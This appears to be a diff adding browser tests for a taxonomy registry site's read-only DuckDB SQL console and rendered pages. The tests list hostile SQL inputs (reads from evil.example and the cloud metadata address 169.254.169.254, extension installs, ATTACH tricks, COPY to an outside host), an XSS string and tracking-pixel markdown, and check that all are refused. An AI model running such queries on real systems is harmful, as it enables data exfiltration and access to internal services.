@@ -9,8 +9,12 @@ sets it).
 from __future__ import annotations
 
 import functools
+import hashlib
 import http.server
+import itertools
+import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -26,6 +30,7 @@ import pytest
 
 from builder.datasets import DatasetOptions, build_dataset
 from builder.generators.run import GenerateOptions, generate
+from builder.release.cut import CutOptions, cut_release
 from registry.catalog.indexer import index
 from tests.conftest import EXAMPLE_TAXONOMY, REPO
 
@@ -49,6 +54,16 @@ seed_examples:
     answer: 'Shown as <b>text</b>, &lt;escaped&gt; once.'
 """
 CONTRIBUTION = "knowledge/history/technology/printing_press"
+RELEASE = "0.1.0"
+# The taxonomy's README is contributed markdown too: a tracking pixel and outbound links in it.
+README_TRACKERS = """
+## Pictures and links
+
+![a pixel](http://evil.example/px.png) ![a pixel by reference][px] [a link](https://evil.example/page)
+<http://evil.example/autolink>
+
+[px]: https://evil.example/ref.png
+"""
 XSS_TEXT = 'What does <script>alert("xss-q1")</script> print?'
 SETTLED = "#taxreg-console[data-state=done], #taxreg-console[data-state=error], #taxreg-console[data-state=unavailable]"
 
@@ -88,6 +103,8 @@ def catalog(tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder = tmp_path_factory.mktemp("browser")
     taxonomy = folder / "taxonomy"
     shutil.copytree(EXAMPLE_TAXONOMY, taxonomy)
+    with (taxonomy / "README.md").open("a", encoding="utf-8") as readme:
+        readme.write(README_TRACKERS)
     leaf = taxonomy / XSS_LEAF
     leaf.mkdir(parents=True)
     (leaf / "qna.yaml").write_text(XSS_YAML, encoding="utf-8")
@@ -96,6 +113,7 @@ def catalog(tmp_path_factory: pytest.TempPathFactory) -> Path:
     index(taxonomy, path)
     generate(taxonomy, path, GenerateOptions())
     build_dataset(path, folder / "datasets", DatasetOptions())
+    cut_release(CutOptions(RELEASE, folder, with_model=False))  # a data-only release beside the catalog
     return path
 
 
@@ -270,6 +288,61 @@ def test_bad_sql_and_writes_get_a_clear_error(visit: Visit) -> None:
     visit.assert_clean()
 
 
+# Shared links that would make a visitor's browser contact other hosts, fetch extensions or reopen the
+# database writable: each must be refused on the page, and nothing may leave 127.0.0.1.
+HOSTILE_QUERIES = {
+    "SELECT * FROM read_csv('http://evil.example/pixel.csv')": "Permission Error",
+    "SELECT * FROM 'https://evil.example/data.csv'": "Permission Error",
+    "SELECT * FROM read_text('http://169.254.169.254/latest/meta-data/')": "Permission Error",
+    "SELECT * FROM query('SELECT * FROM read_text(''http://evil.example/q'')')": "Permission Error",
+    "SET autoinstall_known_extensions = true; SET autoload_known_extensions = true;\n"
+    "SELECT * FROM read_parquet('https://evil.example/x.parquet')": "Refused: SET statements",
+    "USE memory; DETACH audit; ATTACH 'audit.duckdb' AS audit;\n"
+    "CREATE TABLE audit.pwned AS SELECT 1": "Refused: USE statements",
+    "DETACH audit": "Refused: DETACH statements",
+    "SELECT 1; ATTACH 'https://evil.example/x.duckdb' AS x": "Refused: ATTACH statements",
+    "INSTALL httpfs": "Refused: INSTALL statements",
+    "SELECT 'Gutenberg’s “press” 😀'; INSTALL httpfs": "Refused: INSTALL statements",  # offsets are in bytes
+    "LOAD httpfs": "Refused: LOAD statements",
+    "RESET lock_configuration": "Refused: RESET statements",
+    "SELECT 1; /* ; */ COPY (SELECT 1) TO 'http://evil.example/out.csv'": "Refused: COPY statements",
+}
+
+
+def test_hostile_shared_links_are_refused_and_fetch_nothing(visit: Visit) -> None:
+    page = visit.page
+    for sql, refusal in HOSTILE_QUERIES.items():
+        page.goto("about:blank")
+        console(visit, sql).wait_for_selector(SETTLED, timeout=90_000)
+        assert page.get_attribute("#taxreg-console", "data-state") == "error", sql
+        message = page.inner_text(".taxreg-console__error")
+        assert refusal in message and "read-only" in message, (sql, message)
+        assert visit.external == [], (sql, visit.external)
+    # The engine's own guards hold after all of them: the database is still the read-only audit copy.
+    guards = ("SELECT readonly::VARCHAR AS ro, current_setting('enable_external_access')::VARCHAR AS ext, "
+              "current_setting('lock_configuration')::VARCHAR AS locked, "
+              "current_setting('autoinstall_known_extensions')::VARCHAR AS install "
+              "FROM duckdb_databases() WHERE database_name = 'audit'")
+    assert run_sql(visit, guards) == "done"
+    assert cells(visit) == [["true", "false", "true", "false"]]
+    assert "attached read-only" in page.inner_text(".taxreg-console__status")
+    visit.assert_clean()
+
+
+def test_every_canned_query_runs(visit: Visit, site: Path) -> None:
+    page = console(visit)
+    page.wait_for_selector("#taxreg-console[data-ready='1']", timeout=90_000)
+    titles = [q["title"] for q in json.loads((site / "audit/engine/queries.json").read_text(encoding="utf-8"))]
+    assert len(titles) >= 6
+    for title in titles:
+        page.evaluate("document.querySelector('#taxreg-console').removeAttribute('data-state')")
+        page.select_option(".taxreg-console__canned", label=title)
+        page.wait_for_selector(SETTLED, timeout=30_000)
+        assert page.get_attribute("#taxreg-console", "data-state") == "done", (title, page.inner_text(
+            ".taxreg-console__error"))
+    visit.assert_clean()
+
+
 def test_contributed_markup_stays_text_in_the_console(visit: Visit, site: Path) -> None:
     console(visit).wait_for_selector("#taxreg-console[data-ready='1']", timeout=90_000)
     sql = f"SELECT question, answer FROM seed_example WHERE contribution_id = '{XSS_LEAF}' ORDER BY ordinal"
@@ -284,13 +357,46 @@ def test_contributed_markup_stays_text_in_the_console(visit: Visit, site: Path) 
 
 
 
-def contributor_of(catalog: Path, contribution_id: str) -> str:
+def catalog_value(catalog: Path, sql: str, contribution_id: str) -> str:
     con = duckdb.connect(str(catalog), read_only=True)
     try:
-        return str(con.execute("SELECT created_by FROM contribution WHERE contribution_id = ?",
-                               [contribution_id]).fetchall()[0][0])
+        return str(con.execute(sql, [contribution_id]).fetchall()[0][0])
     finally:
         con.close()
+
+
+def contributor_of(catalog: Path, contribution_id: str) -> str:
+    return catalog_value(catalog, "SELECT created_by FROM contribution WHERE contribution_id = ?", contribution_id)
+
+
+def document_of(catalog: Path, contribution_id: str) -> str:
+    return catalog_value(catalog, "SELECT min(doc_sha256) FROM contribution_source WHERE contribution_id = ?",
+                         contribution_id)
+
+
+# Every table's last column must end inside the page and nothing may be scrolled out of view (the right edge
+# of its last column, against the viewport and the table's scroll box).
+CLIPPED_TABLES = """() => [...document.querySelectorAll('.md-content table')].flatMap((table, i) => {
+    const box = table.closest('.md-typeset__scrollwrap') || table.parentElement;
+    const limit = Math.min(window.innerWidth, box.getBoundingClientRect().right) + 1;
+    const right = Math.max(...[...table.rows].map(r => r.cells[r.cells.length - 1].getBoundingClientRect().right));
+    return right > limit || box.scrollWidth > box.clientWidth + 1
+        ? [[i, table.rows[0].cells[table.rows[0].cells.length - 1].textContent, Math.round(right), limit,
+            box.scrollWidth, box.clientWidth]] : [];
+})"""
+
+
+def test_tables_are_not_clipped_at_1280_px(visit: Visit, catalog: Path) -> None:
+    page = visit.page
+    page.set_viewport_size({"width": 1280, "height": 800})
+    for path in (f"contributions/{CONTRIBUTION}/", f"contributors/{contributor_of(catalog, CONTRIBUTION).lower()}/",
+                 f"documents/{document_of(catalog, CONTRIBUTION)}/"):
+        page.goto(f"{visit.base}/{path}")
+        page.wait_for_selector(".md-typeset__scrollwrap")  # material has wrapped the tables
+        assert page.locator(".md-content table").count() >= 2, path
+        assert page.evaluate(CLIPPED_TABLES) == [], path
+        visit.screenshot("tables-" + path.split("/")[0])
+    visit.assert_clean()
 
 
 def test_home_and_a_contribution_page_render(visit: Visit, catalog: Path) -> None:
@@ -320,15 +426,84 @@ def test_the_lineage_diagram_renders_as_svg(visit: Visit) -> None:
     visit.assert_clean()
 
 
-def test_search_finds_a_contribution_by_contributor_name(visit: Visit, catalog: Path) -> None:
+def search(visit: Visit, text: str) -> list[str]:
+    """The addresses material's search lists for `text`, typed into the search box of the home page."""
     page = visit.page
     page.goto(f"{visit.base}/")
     page.click("input.md-search__input")
-    page.keyboard.type(contributor_of(catalog, CONTRIBUTION), delay=20)  # as a person types: material listens to keys
-    page.wait_for_selector(".md-search-result__item", timeout=30_000)
-    hrefs = page.eval_on_selector_all(".md-search-result__item a", "links => links.map(a => a.href)")
+    page.keyboard.type(text, delay=20)  # as a person types: material listens to keys
+    page.wait_for_function("() => /matching/i.test(document.querySelector('.md-search-result__meta')?.textContent)",
+                           timeout=30_000)  # "No matching documents", "3 matching documents"
+    return list(page.eval_on_selector_all(".md-search-result__item a", "links => links.map(a => a.href)"))
+
+
+# The diagram as drawn: the text size on screen, each edge as a polyline (edge ids are L_<from>_<to>_<n>), and
+# every link of a node.
+DIAGRAM = """svg => {
+    const box = svg.viewBox.baseVal, scale = svg.getBoundingClientRect().width / box.width;
+    const label = svg.querySelector('.nodeLabel');
+    const edges = [...svg.querySelectorAll('path.flowchart-link')].map(p => {
+        const n = 40, length = p.getTotalLength();
+        const at = i => { const q = p.getPointAtLength(length * i / n); return [q.x, q.y]; };
+        return [p.id, [...Array(n + 1).keys()].map(at)];
+    });
+    const href = a => a.getAttribute('xlink:href') || a.getAttribute('href');
+    const links = [...svg.querySelectorAll('a')].map(a => new URL(href(a), location.href).href);
+    return {font: parseFloat(getComputedStyle(label).fontSize) * scale, edges, links};
+}"""
+
+
+def _crossing(a: list[list[float]], b: list[list[float]]) -> bool:
+    """Whether two polylines cross (segments properly intersect)."""
+    def side(p: list[float], q: list[float], r: list[float]) -> float:
+        return (q[0] - p[0]) * (r[1] - p[1]) - (q[1] - p[1]) * (r[0] - p[0])
+
+    for p1, p2 in itertools.pairwise(a):
+        for q1, q2 in itertools.pairwise(b):
+            if side(p1, p2, q1) * side(p1, p2, q2) < 0 and side(q1, q2, p1) * side(q1, q2, p2) < 0:
+                return True
+    return False
+
+
+def test_the_lineage_diagram_is_readable_and_linked(visit: Visit, catalog: Path) -> None:
+    page = visit.page
+    page.set_viewport_size({"width": 1280, "height": 800})
+    page.goto(f"{visit.base}/contributions/{CONTRIBUTION}/")
+    svg = page.locator(".mermaid svg").first
+    svg.wait_for(timeout=30_000)
+    drawn = svg.evaluate(DIAGRAM)
+    assert drawn["font"] >= 13, drawn["font"]  # legible at the page's size, not shrunk to fit
+    ends = {edge: set(edge.split("_")[1:3]) for edge, _ in drawn["edges"]}
+    crossing = [(a, b) for i, (a, pa) in enumerate(drawn["edges"]) for b, pb in drawn["edges"][i + 1:]
+                if not ends[a] & ends[b] and _crossing(pa, pb)]
+    assert crossing == []
+    labels = svg.text_content() or ""
+    for text in ("contributor", contributor_of(catalog, CONTRIBUTION), "license", "CC-BY-4.0", "document",
+                 "chunks used", "seed examples", "dataset default"):
+        assert text in labels, text
+    links = drawn["links"]
+    for page_of in (f"/contributors/{contributor_of(catalog, CONTRIBUTION).lower()}/",
+                    f"/documents/{document_of(catalog, CONTRIBUTION)}/", "/licenses/"):
+        assert any(page_of in link for link in links), (page_of, links)
+    for link in {link.split("#")[0] for link in links}:  # every node's link lands on a page of the site
+        assert page.request.get(link).ok, link
+    shown = page.locator("#samples ~ p").first.inner_text()
+    assert re.fullmatch(r"3 of \d+ samples shown \(the first by id\); all of them in the SQL console\.", shown), shown
+    visit.screenshot("lineage")
+    visit.assert_clean()
+
+
+def test_search_finds_a_contribution_by_contributor_name(visit: Visit, catalog: Path) -> None:
+    hrefs = search(visit, contributor_of(catalog, CONTRIBUTION))
     assert any(f"contributions/{CONTRIBUTION}/" in h for h in hrefs), hrefs
     visit.screenshot("search")
+    visit.assert_clean()
+
+
+@pytest.mark.parametrize("topic", ["gutenberg", "diamond sutra", "Bi Sheng"])
+def test_search_finds_a_contribution_by_what_it_is_about(visit: Visit, topic: str) -> None:
+    hrefs = search(visit, topic)  # words of its outline, questions and answers, not of its path or metadata
+    assert any(f"contributions/{CONTRIBUTION}/" in h for h in hrefs), hrefs
     visit.assert_clean()
 
 
@@ -353,8 +528,42 @@ def test_a_markup_payload_leaf_renders_as_text(visit: Visit) -> None:
     visit.assert_clean()
 
 
+def test_images_and_links_in_contributed_markdown_fetch_nothing(visit: Visit) -> None:
+    page = visit.page
+    page.goto(f"{visit.base}/")
+    page.wait_for_load_state("networkidle")
+    about = page.locator(".taxreg-about")
+    assert "Pictures and links" in about.inner_text()
+    assert about.locator("img").count() == 0
+    outbound = about.evaluate("s => [...s.querySelectorAll('a')].filter(a => a.hostname === 'evil.example')"
+                              ".map(a => [a.textContent, a.rel])")
+    assert sorted(outbound) == sorted([["[image: a pixel]", "nofollow noopener"],
+                                       ["[image: a pixel by reference]", "nofollow noopener"],
+                                       ["a link", "nofollow noopener"],
+                                       ["http://evil.example/autolink", "nofollow noopener"]])
+    visit.assert_clean()  # no request to evil.example: a tracking pixel is a link, never fetched
+
+
+def test_a_release_file_downloads_with_the_sha256_its_page_shows(visit: Visit, catalog: Path) -> None:
+    page = visit.page
+    page.goto(f"{visit.base}/releases/{RELEASE}/")
+    row = page.locator(".md-content tr").filter(has=page.locator("a[download]", has_text="data/train.jsonl"))
+    shown = row.locator("code[title]").get_attribute("title")
+    with page.expect_download() as download:
+        row.locator("a[download]").click()
+    assert hashlib.sha256(Path(download.value.path()).read_bytes()).hexdigest() == shown
+    with page.expect_download() as download:  # the manifest, as the catalog recorded it
+        page.locator(".md-content a[download]", has_text="manifest.json").click()
+    manifest = hashlib.sha256(Path(download.value.path()).read_bytes()).hexdigest()
+    assert manifest == published(catalog.parent / "site", f"SELECT manifest_sha256 FROM release "
+                                                          f"WHERE release_id = '{RELEASE}'")[0][0]
+    assert manifest in page.inner_text(".md-content")
+    visit.assert_clean()
+
+
 def test_no_page_requests_anything_beyond_127_0_0_1(visit: Visit, site: Path) -> None:
-    pages = ["", "taxonomy/", "contributors/", "documents/", "runs/", "licenses/", "releases/", "audit/",
+    pages = ["", "taxonomy/", "contributors/", "documents/", "runs/", "licenses/", "releases/", f"releases/{RELEASE}/",
+             "audit/",
              "reference/rules/", f"contributions/{CONTRIBUTION}/"]
     pages += [str(p.parent.relative_to(site)) + "/" for section in ("contributors", "documents", "runs")
               for p in sorted((site / section).glob("*/index.html"))[:1]]
